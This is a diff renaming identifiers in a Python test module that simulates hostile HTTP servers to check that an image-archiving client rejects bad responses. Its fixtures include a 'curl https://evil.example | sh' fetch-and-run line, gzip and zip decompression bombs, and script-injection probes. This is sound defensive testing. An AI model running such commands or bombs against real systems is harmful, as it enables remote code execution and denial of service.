@@ -27,7 +27,7 @@ from tests.hostile.internet import Behaviour
 from tests.image_server import picture
 
 PNG, JPEG, GIF, WEBP, AVIF = (picture(name, (80, 60)) for name in ("PNG", "JPEG", "GIF", "WEBP", "AVIF"))
-WHOLE = {"PNG": PNG, "JPEG": JPEG, "GIF": GIF, "WebP": WEBP, "AVIF": AVIF}
+COMPLETE = {"PNG": PNG, "JPEG": JPEG, "GIF": GIF, "WebP": WEBP, "AVIF": AVIF}
 TRAILING = {
     "HTML": b"<html><script>alert(1)</script></html>",
     "a ZIP": b"PK\x03\x04" + bytes(60) + b"PK\x05\x06" + bytes(18),
@@ -37,18 +37,18 @@ TRAILING = {
     "a zero": b"\x00",
 }
 # All bodies that may be archived.
-IMAGES = WHOLE | {
+IMAGES = COMPLETE | {
     "GIF and JavaScript": b"GIF89a/*" + GIF[8:] + b"*/=alert(1);",
-    **{f"{name} and {other}": image + more for name, image in WHOLE.items() for other, more in TRAILING.items()},
+    **{f"{name} and {other}": image + more for name, image in COMPLETE.items() for other, more in TRAILING.items()},
 }
 
 REJECTED, UNAVAILABLE = ImageRejectedError, ImageUnavailableError
 TIMEOUT = (UNAVAILABLE, "did not arrive within")
-NO_HTTP = (UNAVAILABLE, "cut off, or is not HTTP")
-NO_WHOLE_BODY = (ImageTruncatedError, "cut off, or is not HTTP")
-BROKEN_OFF = (UNAVAILABLE, "connection failed: (the server broke it off|the answer is cut off)")
-NOT_WHOLE = (ImageTruncatedError, "is not whole")
-NO_IMAGE = (NotAnImageError, "not an image")
+NOT_HTTP = (UNAVAILABLE, "cut off, or is not HTTP")
+INCOMPLETE_BODY = (ImageTruncatedError, "cut off, or is not HTTP")
+CONNECTION_LOST = (UNAVAILABLE, "connection failed: (the server broke it off|the answer is cut off)")
+INCOMPLETE_IMAGE = (ImageTruncatedError, "is not whole")
+NOT_AN_IMAGE = (NotAnImageError, "not an image")
 UNKNOWN_FORMAT = (UnknownFormatError, "not an image that is archived")
 COMPRESSED = (UNAVAILABLE, "compressed")
 GONE = (ImageGoneError, "expired or was withdrawn")
@@ -64,18 +64,18 @@ BLOCK = 64 * 1024
 
 @dataclass(frozen=True, slots=True)
 class Server:
-    """One row: a server's behaviour, and the error that it must cause, if any."""
+    """One row: a server's behaviour, and the error that it must cause, or none."""
 
     act: Behaviour
     error: type[ImageError] | None = None
-    says: str = ""
-    is_slow: bool = False  # only the deadline ends it
+    message: str = ""
+    is_slow: bool = False  # only the deadline ends the download
 
 
-# ------------------------------------------------------------------------------------------------ acts
+# ------------------------------------------------------------------------------------------------ behaviours
 
 
-def sends(*parts: bytes) -> Behaviour:
+def send(*parts: bytes) -> Behaviour:
     """Sends these bytes and closes the connection normally."""
 
     def act(connection: socket.socket) -> None:
@@ -84,9 +84,9 @@ def sends(*parts: bytes) -> Behaviour:
     return act
 
 
-def repeats(begin: bytes, again: bytes, seconds: float = 0) -> Behaviour:
+def repeat(begin: bytes, data: bytes, seconds: float = 0) -> Behaviour:
     """Sends the beginning, then the same bytes forever, as fast as the client reads or with a pause after each."""
-    block = again if seconds else again * max(1, BLOCK // len(again))
+    block = data if seconds else data * max(1, BLOCK // len(data))
 
     def act(connection: socket.socket) -> None:
         connection.sendall(begin)
@@ -97,7 +97,7 @@ def repeats(begin: bytes, again: bytes, seconds: float = 0) -> Behaviour:
     return act
 
 
-def drips(data: bytes, begin: bytes = b"") -> Behaviour:
+def drip(data: bytes, begin: bytes = b"") -> Behaviour:
     """Sends one byte at a time: each read succeeds in time, the whole body never arrives."""
 
     def act(connection: socket.socket) -> None:
@@ -110,7 +110,7 @@ def drips(data: bytes, begin: bytes = b"") -> Behaviour:
     return act
 
 
-def stalls(*parts: bytes) -> Behaviour:
+def stall(*parts: bytes) -> Behaviour:
     """Sends these bytes and then nothing, without closing the connection."""
 
     def act(connection: socket.socket) -> None:
@@ -120,7 +120,7 @@ def stalls(*parts: bytes) -> Behaviour:
     return act
 
 
-def resets(*parts: bytes) -> Behaviour:
+def reset(*parts: bytes) -> Behaviour:
     """Sends these bytes and then resets the connection."""
 
     def act(connection: socket.socket) -> None:
@@ -131,7 +131,7 @@ def resets(*parts: bytes) -> Behaviour:
     return act
 
 
-# ------------------------------------------------------------------------------------------------ answers
+# ------------------------------------------------------------------------------------------------ parts of responses
 
 
 def head(*headers: str, status: str = "200 OK", version: str = "HTTP/1.1") -> bytes:
@@ -186,9 +186,17 @@ BOMB = gzip.compress(bytes(20_000_000), 9)
 def rows() -> Iterable[tuple[str, Server]]:
     """Yields all behaviours by name."""
     yield from _groups(
-        well_behaved(), slow(), endless(), lengths(), chunked(), compressed(), statuses(), no_http(), resetting()
+        well_behaved(),
+        slow(),
+        endless(),
+        lengths(),
+        chunked(),
+        compressed(),
+        statuses(),
+        other_protocols(),
+        resetting(),
     )
-    yield from _groups(no_images(), other_formats(), damaged(), more_than_images(), oversized(), truncated())
+    yield from _groups(not_images(), other_formats(), damaged(), with_trailing_data(), oversized(), truncated())
 
 
 def _groups(*groups: dict[str, Server]) -> Iterable[tuple[str, Server]]:
@@ -198,27 +206,27 @@ def _groups(*groups: dict[str, Server]) -> Iterable[tuple[str, Server]]:
 def well_behaved() -> dict[str, Server]:
     """Returns unusual but valid responses: rejecting these would lose images."""
     return {
-        **{f"{name} with a length": Server(sends(sized(image))) for name, image in WHOLE.items()},
-        "length given by the end of the connection": Server(sends(unsized(PNG))),
-        "one chunk": Server(sends(CHUNKED, chunks(PNG), END_OF_CHUNKS)),
-        "chunks of one byte": Server(sends(CHUNKED, chunks(*map(bytes, zip(PNG))), END_OF_CHUNKS)),
+        **{f"{name} with a length": Server(send(sized(image))) for name, image in COMPLETE.items()},
+        "length given by the end of the connection": Server(send(unsized(PNG))),
+        "one chunk": Server(send(CHUNKED, chunks(PNG), END_OF_CHUNKS)),
+        "chunks of one byte": Server(send(CHUNKED, chunks(*map(bytes, zip(PNG))), END_OF_CHUNKS)),
         "chunk extensions and trailers": Server(
-            sends(CHUNKED, b"%X;name=value\r\n%s\r\n" % (len(PNG), PNG), b"0\r\nX-Trailer: 1\r\n\r\n")
+            send(CHUNKED, b"%X;name=value\r\n%s\r\n" % (len(PNG), PNG), b"0\r\nX-Trailer: 1\r\n\r\n")
         ),
-        "same length twice": Server(sends(sized(PNG, f"Content-Length: {len(PNG)}"))),
-        "length with zeros": Server(sends(head(f"Content-Length: 000{len(PNG)}"), PNG)),
-        "HTTP/1.0": Server(sends(sized(PNG, version="HTTP/1.0"))),
-        "a version that is none": Server(sends(sized(PNG, version="HTTP/3.0"))),
-        "no reason": Server(sends(sized(PNG, status="200"))),
-        "bare line feeds": Server(sends(sized(PNG).replace(b"\r\n", b"\n", 3))),
-        "continue first": Server(sends(b"HTTP/1.1 100 Continue\r\n\r\n", sized(PNG))),
-        "early hints first": Server(sends(b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n", sized(PNG))),
-        "many headers": Server(sends(sized(PNG, *(f"X-{n}: {'x' * 500}" for n in range(100))))),
-        "header of no known encoding": Server(sends(sized(PNG, "X-Name: caf\xe9"))),
-        "another content type": Server(sends(sized(PNG).replace(b"image/png", b"text/html"))),
-        "identity": Server(sends(sized(PNG, "Content-Encoding: identity"))),
+        "same length twice": Server(send(sized(PNG, f"Content-Length: {len(PNG)}"))),
+        "length with zeros": Server(send(head(f"Content-Length: 000{len(PNG)}"), PNG)),
+        "HTTP/1.0": Server(send(sized(PNG, version="HTTP/1.0"))),
+        "an unknown HTTP version": Server(send(sized(PNG, version="HTTP/3.0"))),
+        "no reason phrase": Server(send(sized(PNG, status="200"))),
+        "bare line feeds": Server(send(sized(PNG).replace(b"\r\n", b"\n", 3))),
+        "continue first": Server(send(b"HTTP/1.1 100 Continue\r\n\r\n", sized(PNG))),
+        "early hints first": Server(send(b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n", sized(PNG))),
+        "many headers": Server(send(sized(PNG, *(f"X-{n}: {'x' * 500}" for n in range(100))))),
+        "header that is not ASCII": Server(send(sized(PNG, "X-Name: caf\xe9"))),
+        "another content type": Server(send(sized(PNG).replace(b"image/png", b"text/html"))),
+        "identity": Server(send(sized(PNG, "Content-Encoding: identity"))),
         "parts with pauses": Server(lambda connection: _send_with_pauses(connection, sized(PNG))),
-        "asks to upgrade": Server(sends(sized(PNG, "Upgrade: h2c", "Connection: Upgrade"))),
+        "asks to upgrade": Server(send(sized(PNG, "Upgrade: h2c", "Connection: Upgrade"))),
     }
 
 
@@ -231,23 +239,23 @@ def _send_with_pauses(connection: socket.socket, data: bytes) -> None:
 def slow() -> dict[str, Server]:
     """Returns behaviours that only the deadline ends."""
     acts = {
-        "accepts and says nothing": stalls(),
-        "half a status line": stalls(b"HTTP/1.1 20"),
-        "head without end": stalls(head()[:-2]),
-        "head, then nothing": stalls(head("Content-Length: 100")),
-        "all but the last byte": stalls(sized(PNG)[:-1]),
-        "all but the last chunk": stalls(CHUNKED, chunks(PNG)),
-        "all of a body that only the end ends": stalls(unsized(PNG)),
-        "half a chunk's size": stalls(CHUNKED, b"10"),
-        "trailer without end": stalls(CHUNKED, chunks(PNG), b"0\r\nX-Trailer: "),
-        "head byte by byte": drips(head("X-Padding: " + "x" * 1000)),
-        "body byte by byte": drips(PNG, head(f"Content-Length: {len(PNG)}")),
-        "body without length byte by byte": drips(PNG, head()),
-        "chunks byte by byte": drips(chunks(PNG), CHUNKED),
-        "a header line now and then": repeats(b"HTTP/1.1 200 OK\r\n", b"X-Padding: 1\r\n", 0.05),
-        "informational answers now and then": repeats(b"", b"HTTP/1.1 102 Processing\r\n\r\n", 0.05),
-        "informational answers without end": repeats(b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
-        "chunks of one byte without end": repeats(CHUNKED, chunks(b"\x00"), 0.05),
+        "accepts and sends nothing": stall(),
+        "half a status line": stall(b"HTTP/1.1 20"),
+        "head without end": stall(head()[:-2]),
+        "head, then nothing": stall(head("Content-Length: 100")),
+        "all but the last byte": stall(sized(PNG)[:-1]),
+        "all but the last chunk": stall(CHUNKED, chunks(PNG)),
+        "all of a body without length, connection left open": stall(unsized(PNG)),
+        "half a chunk's size": stall(CHUNKED, b"10"),
+        "trailer without end": stall(CHUNKED, chunks(PNG), b"0\r\nX-Trailer: "),
+        "head byte by byte": drip(head("X-Padding: " + "x" * 1000)),
+        "body byte by byte": drip(PNG, head(f"Content-Length: {len(PNG)}")),
+        "body without length byte by byte": drip(PNG, head()),
+        "chunks byte by byte": drip(chunks(PNG), CHUNKED),
+        "a header line at intervals": repeat(b"HTTP/1.1 200 OK\r\n", b"X-Padding: 1\r\n", 0.05),
+        "informational responses at intervals": repeat(b"", b"HTTP/1.1 102 Processing\r\n\r\n", 0.05),
+        "informational responses without end": repeat(b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
+        "chunks of one byte without end": repeat(CHUNKED, chunks(b"\x00"), 0.05),
     }
     return {name: Server(act, *TIMEOUT, is_slow=True) for name, act in acts.items()}
 
@@ -255,19 +263,19 @@ def slow() -> dict[str, Server]:
 def endless() -> dict[str, Server]:
     """Returns behaviours that end when a limit is reached."""
     return {
-        "status line without end": Server(repeats(b"HTTP/1.1 200 ", b"O"), *NO_HTTP),
-        "header line without end": Server(repeats(b"HTTP/1.1 200 OK\r\nX-Padding: ", b"x"), *NO_HTTP),
-        "header lines without end": Server(repeats(b"HTTP/1.1 200 OK\r\n", b"X-Padding: 1\r\n"), *NO_HTTP),
-        "header of a megabyte": Server(sends(sized(PNG, "X-Padding: " + "x" * 1_000_000)), *NO_HTTP),
-        "empty lines without end": Server(repeats(b"", b"\r\n"), *NO_HTTP),
-        "body without end": Server(repeats(head() + PNG, b"\x00"), *TOO_LARGE),
-        "image after image without end": Server(repeats(head(), PNG), *TOO_LARGE),
-        "chunks without end": Server(repeats(CHUNKED + chunks(PNG), chunks(bytes(BLOCK))), *TOO_LARGE),
-        "one chunk without end": Server(repeats(CHUNKED + b"7fffffffffffffff\r\n" + PNG, bytes(BLOCK)), *TOO_LARGE),
-        "chunks of nothing without end": Server(repeats(CHUNKED, chunks(bytes(BLOCK))), *NO_IMAGE),
-        "chunk size without end": Server(repeats(CHUNKED, b"0"), *NO_WHOLE_BODY),
-        "chunk extension without end": Server(repeats(CHUNKED + b"1;", b"x"), *NO_WHOLE_BODY),
-        "trailers without end": Server(repeats(CHUNKED + chunks(PNG) + b"0\r\n", b"X-Trailer: 1\r\n"), *NO_WHOLE_BODY),
+        "status line without end": Server(repeat(b"HTTP/1.1 200 ", b"O"), *NOT_HTTP),
+        "header line without end": Server(repeat(b"HTTP/1.1 200 OK\r\nX-Padding: ", b"x"), *NOT_HTTP),
+        "header lines without end": Server(repeat(b"HTTP/1.1 200 OK\r\n", b"X-Padding: 1\r\n"), *NOT_HTTP),
+        "header of a megabyte": Server(send(sized(PNG, "X-Padding: " + "x" * 1_000_000)), *NOT_HTTP),
+        "empty lines without end": Server(repeat(b"", b"\r\n"), *NOT_HTTP),
+        "body without end": Server(repeat(head() + PNG, b"\x00"), *TOO_LARGE),
+        "image after image without end": Server(repeat(head(), PNG), *TOO_LARGE),
+        "chunks without end": Server(repeat(CHUNKED + chunks(PNG), chunks(bytes(BLOCK))), *TOO_LARGE),
+        "one chunk without end": Server(repeat(CHUNKED + b"7fffffffffffffff\r\n" + PNG, bytes(BLOCK)), *TOO_LARGE),
+        "chunks of zeros without end": Server(repeat(CHUNKED, chunks(bytes(BLOCK))), *NOT_AN_IMAGE),
+        "chunk size without end": Server(repeat(CHUNKED, b"0"), *INCOMPLETE_BODY),
+        "chunk extension without end": Server(repeat(CHUNKED + b"1;", b"x"), *INCOMPLETE_BODY),
+        "trailers without end": Server(repeat(CHUNKED + chunks(PNG) + b"0\r\n", b"X-Trailer: 1\r\n"), *INCOMPLETE_BODY),
     }
 
 
@@ -278,24 +286,24 @@ def lengths() -> dict[str, Server]:
         return head(f"Content-Length: {length}") + PNG
 
     return {
-        "longer than it is": Server(sends(declared(str(len(PNG) + 1))), *NO_WHOLE_BODY),
-        "much longer than it is": Server(sends(declared(str(MAX_IMAGE_BYTES))), *NO_WHOLE_BODY),
-        "shorter than it is": Server(sends(declared(str(len(PNG) - 40))), *NOT_WHOLE),
-        "a single byte": Server(sends(declared("1")), UNAVAILABLE, "only 1 bytes"),
-        "nothing": Server(sends(declared("0")), UNAVAILABLE, "only 0 bytes"),
-        "too large by one": Server(sends(declared(str(MAX_IMAGE_BYTES + 1))), *TOO_LARGE),
-        "an exabyte": Server(sends(declared("1" + "0" * 18)), *TOO_LARGE),
-        "five thousand digits": Server(sends(declared("1" * 5000)), *NO_HTTP),
-        "two lengths": Server(sends(sized(PNG, "Content-Length: 5")), *NO_HTTP),
-        "two lengths in one": Server(sends(declared(f"{len(PNG)}, 5")), *NO_HTTP),
-        "negative": Server(sends(declared("-1")), *NO_HTTP),
-        "with a sign": Server(sends(declared(f"+{len(PNG)}")), *NO_HTTP),
-        "hexadecimal": Server(sends(declared(hex(len(PNG)))), *NO_HTTP),
-        "a fraction": Server(sends(declared(f"{len(PNG)}.0")), *NO_HTTP),
-        "empty": Server(sends(declared("")), *NO_HTTP),
-        "digits of another script": Server(sends(declared("\xb2")), *NO_HTTP),
+        "declared longer than the body": Server(send(declared(str(len(PNG) + 1))), *INCOMPLETE_BODY),
+        "declared much longer than the body": Server(send(declared(str(MAX_IMAGE_BYTES))), *INCOMPLETE_BODY),
+        "declared shorter than the body": Server(send(declared(str(len(PNG) - 40))), *INCOMPLETE_IMAGE),
+        "a single byte": Server(send(declared("1")), UNAVAILABLE, "only 1 bytes"),
+        "nothing": Server(send(declared("0")), UNAVAILABLE, "only 0 bytes"),
+        "too large by one": Server(send(declared(str(MAX_IMAGE_BYTES + 1))), *TOO_LARGE),
+        "an exabyte": Server(send(declared("1" + "0" * 18)), *TOO_LARGE),
+        "five thousand digits": Server(send(declared("1" * 5000)), *NOT_HTTP),
+        "two lengths": Server(send(sized(PNG, "Content-Length: 5")), *NOT_HTTP),
+        "two lengths in one": Server(send(declared(f"{len(PNG)}, 5")), *NOT_HTTP),
+        "negative": Server(send(declared("-1")), *NOT_HTTP),
+        "with a sign": Server(send(declared(f"+{len(PNG)}")), *NOT_HTTP),
+        "hexadecimal": Server(send(declared(hex(len(PNG)))), *NOT_HTTP),
+        "a fraction": Server(send(declared(f"{len(PNG)}.0")), *NOT_HTTP),
+        "empty": Server(send(declared("")), *NOT_HTTP),
+        "digits of another script": Server(send(declared("\xb2")), *NOT_HTTP),
         "length and chunks": Server(
-            sends(head(f"Content-Length: {len(PNG)}", "Transfer-Encoding: chunked"), chunks(PNG), END_OF_CHUNKS),
+            send(head(f"Content-Length: {len(PNG)}", "Transfer-Encoding: chunked"), chunks(PNG), END_OF_CHUNKS),
             UNAVAILABLE,
             "in two ways",
         ),
@@ -305,22 +313,22 @@ def lengths() -> dict[str, Server]:
 def chunked() -> dict[str, Server]:
     """Returns responses with invalid chunks."""
     return {
-        "no last chunk": Server(sends(CHUNKED, chunks(PNG)), *NO_WHOLE_BODY),
-        "no chunk at all": Server(sends(CHUNKED), *NO_WHOLE_BODY),
-        "only the last chunk": Server(sends(CHUNKED, END_OF_CHUNKS), UNAVAILABLE, "only 0 bytes"),
-        "chunk cut off": Server(sends(CHUNKED, chunks(PNG)[:-10]), *NO_WHOLE_BODY),
-        "no end of trailers": Server(sends(CHUNKED, chunks(PNG), b"0\r\n"), *NO_WHOLE_BODY),
-        "size is no number": Server(sends(CHUNKED, b"xyz\r\n", PNG, b"\r\n", END_OF_CHUNKS), *NO_WHOLE_BODY),
-        "size is negative": Server(sends(CHUNKED, b"-1\r\n", PNG, b"\r\n", END_OF_CHUNKS), *NO_WHOLE_BODY),
-        "size with 0x": Server(sends(CHUNKED, b"0x%x\r\n" % len(PNG), PNG, b"\r\n", END_OF_CHUNKS), *NO_WHOLE_BODY),
-        "size of 21 digits": Server(sends(CHUNKED, b"f" * 21 + b"\r\n", PNG), *NO_WHOLE_BODY),
-        "size larger than what comes": Server(sends(CHUNKED, b"ffff\r\n", PNG), *NO_WHOLE_BODY),
-        "size smaller than what comes": Server(sends(CHUNKED, b"5\r\n", PNG, b"\r\n", END_OF_CHUNKS), *NO_WHOLE_BODY),
-        "no chunks although declared": Server(sends(CHUNKED, PNG), *NO_WHOLE_BODY),
-        "encoded twice": Server(sends(head("Transfer-Encoding: gzip, chunked"), chunks(PNG), END_OF_CHUNKS), *NO_HTTP),
-        "encoded in no known way": Server(sends(head("Transfer-Encoding: xchunked"), chunks(PNG)), *NO_HTTP),
+        "no last chunk": Server(send(CHUNKED, chunks(PNG)), *INCOMPLETE_BODY),
+        "no chunk at all": Server(send(CHUNKED), *INCOMPLETE_BODY),
+        "only the last chunk": Server(send(CHUNKED, END_OF_CHUNKS), UNAVAILABLE, "only 0 bytes"),
+        "chunk cut off": Server(send(CHUNKED, chunks(PNG)[:-10]), *INCOMPLETE_BODY),
+        "no end of trailers": Server(send(CHUNKED, chunks(PNG), b"0\r\n"), *INCOMPLETE_BODY),
+        "size is no number": Server(send(CHUNKED, b"xyz\r\n", PNG, b"\r\n", END_OF_CHUNKS), *INCOMPLETE_BODY),
+        "size is negative": Server(send(CHUNKED, b"-1\r\n", PNG, b"\r\n", END_OF_CHUNKS), *INCOMPLETE_BODY),
+        "size with 0x": Server(send(CHUNKED, b"0x%x\r\n" % len(PNG), PNG, b"\r\n", END_OF_CHUNKS), *INCOMPLETE_BODY),
+        "size of 21 digits": Server(send(CHUNKED, b"f" * 21 + b"\r\n", PNG), *INCOMPLETE_BODY),
+        "size larger than the data": Server(send(CHUNKED, b"ffff\r\n", PNG), *INCOMPLETE_BODY),
+        "size smaller than the data": Server(send(CHUNKED, b"5\r\n", PNG, b"\r\n", END_OF_CHUNKS), *INCOMPLETE_BODY),
+        "no chunks although declared": Server(send(CHUNKED, PNG), *INCOMPLETE_BODY),
+        "encoded twice": Server(send(head("Transfer-Encoding: gzip, chunked"), chunks(PNG), END_OF_CHUNKS), *NOT_HTTP),
+        "unknown transfer encoding": Server(send(head("Transfer-Encoding: xchunked"), chunks(PNG)), *NOT_HTTP),
         "last chunk first": Server(
-            sends(CHUNKED, END_OF_CHUNKS, chunks(PNG), END_OF_CHUNKS), UNAVAILABLE, "only 0 bytes"
+            send(CHUNKED, END_OF_CHUNKS, chunks(PNG), END_OF_CHUNKS), UNAVAILABLE, "only 0 bytes"
         ),
     }
 
@@ -328,18 +336,18 @@ def chunked() -> dict[str, Server]:
 def compressed() -> dict[str, Server]:
     """Returns bodies that would grow if a client decompressed them."""
     codings = ["gzip", "x-gzip", "GZIP", "deflate", "br", "zstd", "compress", "gzip, gzip", "identity, gzip"]
-    bombs = {coding: sends(sized(BOMB, f"Content-Encoding: {coding}")) for coding in codings}
+    bombs = {coding: send(sized(BOMB, f"Content-Encoding: {coding}")) for coding in codings}
     return {
         **{f"{coding} bomb": Server(bomb, *COMPRESSED) for coding, bomb in bombs.items()},
         "bomb of an unknown coding": Server(
-            sends(sized(BOMB, "Content-Encoding: unknown")), UNAVAILABLE, "unknown content encoding"
+            send(sized(BOMB, "Content-Encoding: unknown")), UNAVAILABLE, "unknown content encoding"
         ),
-        "image in gzip": Server(sends(sized(gzip.compress(PNG), "Content-Encoding: gzip")), *COMPRESSED),
+        "image in gzip": Server(send(sized(gzip.compress(PNG), "Content-Encoding: gzip")), *COMPRESSED),
         "identity and gzip in two headers": Server(
-            sends(sized(BOMB, "Content-Encoding: identity", "Content-Encoding: gzip")), *COMPRESSED
+            send(sized(BOMB, "Content-Encoding: identity", "Content-Encoding: gzip")), *COMPRESSED
         ),
-        "gzip bomb without Content-Encoding": Server(sends(sized(BOMB)), *NO_IMAGE),
-        "zip bomb": Server(sends(sized(b"PK\x03\x04" + BOMB)), *NO_IMAGE),
+        "gzip bomb without Content-Encoding": Server(send(sized(BOMB)), *NOT_AN_IMAGE),
+        "zip bomb": Server(send(sized(b"PK\x03\x04" + BOMB)), *NOT_AN_IMAGE),
     }
 
 
@@ -349,7 +357,7 @@ def statuses() -> dict[str, Server]:
     others += [500, 502, 503, 504, 530, 999]
 
     def image(status: int, *headers: str) -> Behaviour:
-        return sends(sized(PNG, *headers, status=f"{status} X"))
+        return send(sized(PNG, *headers, status=f"{status} X"))
 
     return {
         **{f"status {status}": Server(image(status), UNAVAILABLE, f"answers {status}$") for status in others},
@@ -360,56 +368,56 @@ def statuses() -> dict[str, Server]:
         "redirect inside": Server(image(307, "Location: http://127.0.0.1:9001/"), *REDIRECTED),
         "redirect to another image": Server(image(301, "Location: /b.png"), *REDIRECTED),
         "redirect to nowhere": Server(image(308), *REDIRECTED),
-        "only informational": Server(sends(b"HTTP/1.1 103 Early Hints\r\n\r\n"), *NO_HTTP),
-        "status of four digits": Server(sends(sized(PNG, status="2000 OK")), *NO_HTTP),
-        "status of two digits": Server(sends(sized(PNG, status="20 OK")), *NO_HTTP),
-        "status is no number": Server(sends(sized(PNG, status="OK")), *NO_HTTP),
+        "only informational": Server(send(b"HTTP/1.1 103 Early Hints\r\n\r\n"), *NOT_HTTP),
+        "status of four digits": Server(send(sized(PNG, status="2000 OK")), *NOT_HTTP),
+        "status of two digits": Server(send(sized(PNG, status="20 OK")), *NOT_HTTP),
+        "status is no number": Server(send(sized(PNG, status="OK")), *NOT_HTTP),
     }
 
 
-def no_http() -> dict[str, Server]:
+def other_protocols() -> dict[str, Server]:
     """Returns responses of other protocols."""
     return {
-        "nothing at all": Server(sends(), *BROKEN_OFF),
-        "HTTP/0.9": Server(sends(PNG), *NO_HTTP),
-        "HTTP/2": Server(sends(b"\x00\x00\x12\x04\x00\x00\x00\x00\x00" + bytes(18)), *NO_HTTP),
-        "HTTP/2 preface": Server(sends(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), *NO_HTTP),
-        "ICY": Server(sends(sized(PNG, version="ICY")), *NO_HTTP),
-        "a request": Server(sends(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), *NO_HTTP),
-        "SSH": Server(sends(b"SSH-2.0-OpenSSH_9.9\r\n"), *NO_HTTP),
-        "SMTP": Server(sends(b"220 mail.example ESMTP\r\n"), *NO_HTTP),
-        "Redis": Server(sends(b"-ERR unknown command 'GET'\r\n"), *NO_HTTP),
-        "TLS alert": Server(sends(b"\x15\x03\x01\x00\x02\x02\x28"), *NO_HTTP),
-        "zeros": Server(sends(bytes(1000)), *NO_HTTP),
-        "head cut off": Server(sends(head()[:-4]), *NO_HTTP),
-        "header without colon": Server(sends(head("X-Padding")), *NO_HTTP),
-        "header with a zero": Server(sends(sized(PNG, "X-Padding: a\x00b")), *NO_HTTP),
-        "header name with a blank": Server(sends(head(f"Content-Length : {len(PNG)}"), PNG), *NO_HTTP),
-        "header that is only a value": Server(sends(head(": 1"), PNG), *NO_HTTP),
+        "nothing at all": Server(send(), *CONNECTION_LOST),
+        "HTTP/0.9": Server(send(PNG), *NOT_HTTP),
+        "HTTP/2": Server(send(b"\x00\x00\x12\x04\x00\x00\x00\x00\x00" + bytes(18)), *NOT_HTTP),
+        "HTTP/2 preface": Server(send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), *NOT_HTTP),
+        "ICY": Server(send(sized(PNG, version="ICY")), *NOT_HTTP),
+        "a request": Server(send(b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"), *NOT_HTTP),
+        "SSH": Server(send(b"SSH-2.0-OpenSSH_9.9\r\n"), *NOT_HTTP),
+        "SMTP": Server(send(b"220 mail.example ESMTP\r\n"), *NOT_HTTP),
+        "Redis": Server(send(b"-ERR unknown command 'GET'\r\n"), *NOT_HTTP),
+        "TLS alert": Server(send(b"\x15\x03\x01\x00\x02\x02\x28"), *NOT_HTTP),
+        "zeros": Server(send(bytes(1000)), *NOT_HTTP),
+        "head cut off": Server(send(head()[:-4]), *NOT_HTTP),
+        "header without colon": Server(send(head("X-Padding")), *NOT_HTTP),
+        "header with a zero": Server(send(sized(PNG, "X-Padding: a\x00b")), *NOT_HTTP),
+        "header name with a blank": Server(send(head(f"Content-Length : {len(PNG)}"), PNG), *NOT_HTTP),
+        "header that is only a value": Server(send(head(": 1"), PNG), *NOT_HTTP),
     }
 
 
 def resetting() -> dict[str, Server]:
     """Returns connections that do not end normally."""
     return {
-        "reset at once": Server(resets(), *BROKEN_OFF),
-        "reset in the head": Server(resets(head()[:-4]), *BROKEN_OFF),
-        "reset after the head": Server(resets(head("Content-Length: 100")), *BROKEN_OFF),
-        "reset in the body": Server(resets(sized(PNG)[:-50]), *BROKEN_OFF),
-        "reset in a chunk": Server(resets(CHUNKED, chunks(PNG)[:-50]), *BROKEN_OFF),
-        "reset in a body that only the end ends": Server(resets(unsized(PNG[:-50])), *BROKEN_OFF),
+        "reset at once": Server(reset(), *CONNECTION_LOST),
+        "reset in the head": Server(reset(head()[:-4]), *CONNECTION_LOST),
+        "reset after the head": Server(reset(head("Content-Length: 100")), *CONNECTION_LOST),
+        "reset in the body": Server(reset(sized(PNG)[:-50]), *CONNECTION_LOST),
+        "reset in a chunk": Server(reset(CHUNKED, chunks(PNG)[:-50]), *CONNECTION_LOST),
+        "reset in a body without length": Server(reset(unsized(PNG[:-50])), *CONNECTION_LOST),
     }
 
 
-def no_images() -> dict[str, Server]:
-    """Returns responses with status 200, content type image/png, and no image."""
+def not_images() -> dict[str, Server]:
+    """Returns responses with status 200 and content type image/png whose bodies are not images."""
     bodies = {
         "HTML": b"<!DOCTYPE html><html><body>Not found</body></html>",
         "HTML with a comment": b"<!-- \x89PNG --><html><script>alert(1)</script></html>",
-        "HTML after blanks": b"\r\n\r\n   <html></html>",
+        "HTML after white space": b"\r\n\r\n   <html></html>",
         "JSON": b'{"code": 404, "msg": "The file has expired"}',
         "XML": b'<?xml version="1.0"?><Error><Code>AccessDenied</Code></Error>',
-        "text": b"The image that you asked for has gone away.",
+        "text": b"The requested image does not exist any more.",
         "base64 of an image": b"iVBORw0KGgoAAAANSUhEUgAAAAgAAAAGCAIAAABxZ0isAAAA",
         "data URL": b"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAgAAAAG",
         "script": b"#!/bin/sh\ncurl https://evil.example | sh\n",
@@ -422,14 +430,14 @@ def no_images() -> dict[str, Server]:
         "WAVE": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(28),
         "zeros": bytes(5000),
         "image after a byte": b"\n" + PNG,
-        "image after a mark": b"\xef\xbb\xbf" + PNG,
-        "image with turned line ends": PNG.replace(b"\r\n", b"\n"),
+        "image after a byte order mark": b"\xef\xbb\xbf" + PNG,
+        "image with converted line ends": PNG.replace(b"\r\n", b"\n"),
     }
-    return {f"{name} as an image": Server(sends(sized(body)), *NO_IMAGE) for name, body in bodies.items()}
+    return {f"{name} as an image": Server(send(sized(body)), *NOT_AN_IMAGE) for name, body in bodies.items()}
 
 
 def other_formats() -> dict[str, Server]:
-    """Returns pictures and videos of formats that are not archived."""
+    """Returns images and videos in formats that are not archived."""
     bodies = {
         "SVG": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
         "AVI": b"RIFF\x24\x00\x00\x00AVI LIST" + bytes(28),
@@ -442,7 +450,7 @@ def other_formats() -> dict[str, Server]:
         "MP4": b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(60),
         "HEIC": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(60),
     }
-    return {f"{name} as an image": Server(sends(sized(body)), *UNKNOWN_FORMAT) for name, body in bodies.items()}
+    return {f"{name} as an image": Server(send(sized(body)), *UNKNOWN_FORMAT) for name, body in bodies.items()}
 
 
 def damaged() -> dict[str, Server]:
